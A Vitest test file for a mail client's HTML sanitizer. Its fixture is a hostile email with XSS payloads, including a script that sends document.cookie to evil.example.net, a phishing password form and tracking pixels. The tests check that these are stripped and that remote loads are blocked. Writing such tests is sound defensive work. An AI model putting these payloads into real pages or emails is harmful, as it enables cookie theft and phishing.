// @vitest-environment jsdom
// The mail sanitizer: nothing executable survives, and nothing remote loads until the user allows it.
import { describe, expect, it } from 'vitest';
import { frameCsp, sanitizeEmail } from '../../renderer/lib/sanitize-html.ts';

const HOSTILE = `<html><head>
<script>fetch('https://evil.example.net/steal?c=' + document.cookie)</script>
<meta http-equiv="refresh" content="0;url=https://evil.example.net/">
<base href="https://evil.example.net/">
<link rel="stylesheet" href="https://evil.example.net/x.css">
<style>@import url("https://evil.example.net/i.css"); .hero { background: url('https://track.example.org/bg.png'); color: red } .ok { background: url(data:image/png;base64,AAAA) }</style>
</head>
<body onload="alert('onload')" style="font-family: Arial">
<p onclick="alert(1)" onmouseover="alert(2)">Hello <b>there</b></p>
<img src="x" onerror="alert('img')">
<img src="https://track.example.org/open.gif?m=1" width="1" height="1">
<img src="http://plain.example.org/banner.png">
<img srcset="https://cdn.example.org/a.png 1x, https://cdn.example.org/b.png 2x">
<img src="data:image/png;base64,iVBORw0KGgo=" alt="inline">
<table background="https://track.example.org/table.png"><tr><td style="background-image:url(https://track.example.org/td.png)">cell</td></tr></table>
<a href="javascript:alert('link')">js link</a>
<a href="https://example.com/page">real link</a>
<form action="https://evil.example.net/phish"><input name="password"><button>Go</button></form>
<iframe src="https://evil.example.net/frame"></iframe>
<svg><image href="https://track.example.org/svg.png"></image><script>alert('svg')</script></svg>
<object data="https://evil.example.net/x.swf"></object>
</body></html>`;

function parse(srcdoc: string): Document {
  return new DOMParser().parseFromString(srcdoc, 'text/html');
}

function allAttributes(doc: Document): string[] {
  return [...doc.querySelectorAll('*')].flatMap((el) => [...el.attributes].map((a) => `${a.name}=${a.value}`));
}

describe('sanitizeEmail', () => {
  it('removes scripts, event handlers, javascript: links, forms, frames and objects', () => {
    const { srcdoc } = sanitizeEmail(HOSTILE, { allowRemote: false });
    const doc = parse(srcdoc);
    expect(doc.querySelectorAll('script, form, input, button, iframe, object, embed, link, base')).toHaveLength(0);
    expect(doc.querySelectorAll('meta[http-equiv="refresh"]')).toHaveLength(0);
    const attrs = allAttributes(doc);
    expect(attrs.filter((a) => /^on/i.test(a))).toEqual([]);
    expect(attrs.filter((a) => /javascript:/i.test(a))).toEqual([]);
    expect(srcdoc).not.toMatch(/alert\(|document\.cookie|evil\.example\.net/);
    // The harmless content is still there.
    expect(doc.body.textContent).toContain('Hello there');
    expect(doc.querySelector('a[href="https://example.com/page"]')?.getAttribute('target')).toBe('_blank');
    expect(doc.querySelector('a[href="https://example.com/page"]')?.getAttribute('rel')).toBe('noopener noreferrer');
  });

  it('blocks every remote resource until allowed, and puts the strict CSP first in the document', () => {
    const { srcdoc, blockedRemote } = sanitizeEmail(HOSTILE, { allowRemote: false });
    expect(srcdoc).not.toMatch(/track\.example\.org|cdn\.example\.org|plain\.example\.org/);
    expect(blockedRemote).toBeGreaterThanOrEqual(8);
    const doc = parse(srcdoc);
    const first = doc.head.firstElementChild;
    expect(first?.getAttribute('http-equiv')).toBe('Content-Security-Policy');
    expect(first?.getAttribute('content')).toBe("default-src 'none'; img-src data:; style-src 'unsafe-inline'; font-src data:");
    // data: images and the mail's own styles stay.
    expect(doc.querySelector('img[alt="inline"]')?.getAttribute('src')).toMatch(/^data:image\/png/);
    expect(srcdoc).toContain('url(data:image/png;base64,AAAA)');
    expect(srcdoc).toContain('color: red');
    expect(doc.querySelector('div[style]')?.getAttribute('style')).toContain('Arial');
  });

  it('after the user allows it, loads https images (never plain http, never @import) and widens the CSP to https: only', () => {
    const { srcdoc, blockedRemote } = sanitizeEmail(HOSTILE, { allowRemote: true });
    const doc = parse(srcdoc);
    expect(doc.querySelector('img[src^="https://track.example.org/open.gif"]')).not.toBeNull();
    expect(doc.querySelector('img[srcset]')?.getAttribute('srcset')).toContain('https://cdn.example.org/b.png 2x');
    expect(doc.querySelector('table')?.getAttribute('background')).toBe('https://track.example.org/table.png');
    expect(srcdoc).toContain("url('https://track.example.org/bg.png')");
    expect(srcdoc).not.toContain('plain.example.org');
    expect(srcdoc).not.toContain('@import');
    expect(blockedRemote).toBeGreaterThan(0); // the http image and the @import
    expect(doc.head.firstElementChild?.getAttribute('content')).toBe(frameCsp(true));
    expect(frameCsp(true)).toContain('img-src data: https:');
    // Allowing images never lets scripts back in.
    expect(doc.querySelectorAll('script')).toHaveLength(0);
    expect(allAttributes(doc).filter((a) => /^on/i.test(a))).toEqual([]);
  });

  it('does not keep state between calls (hooks are removed)', () => {
    sanitizeEmail('<img src="https://a.example/x.png">', { allowRemote: true });
    const second = sanitizeEmail('<img src="https://a.example/x.png">', { allowRemote: false });
    expect(second.srcdoc).not.toContain('a.example');
    expect(second.blockedRemote).toBe(1);
  });

  it('handles a fragment and empty input', () => {
    expect(parse(sanitizeEmail('just <i>text</i>', { allowRemote: false }).srcdoc).body.innerHTML).toBe('just <i>text</i>');
    expect(sanitizeEmail('', { allowRemote: false }).blockedRemote).toBe(0);
  });
});
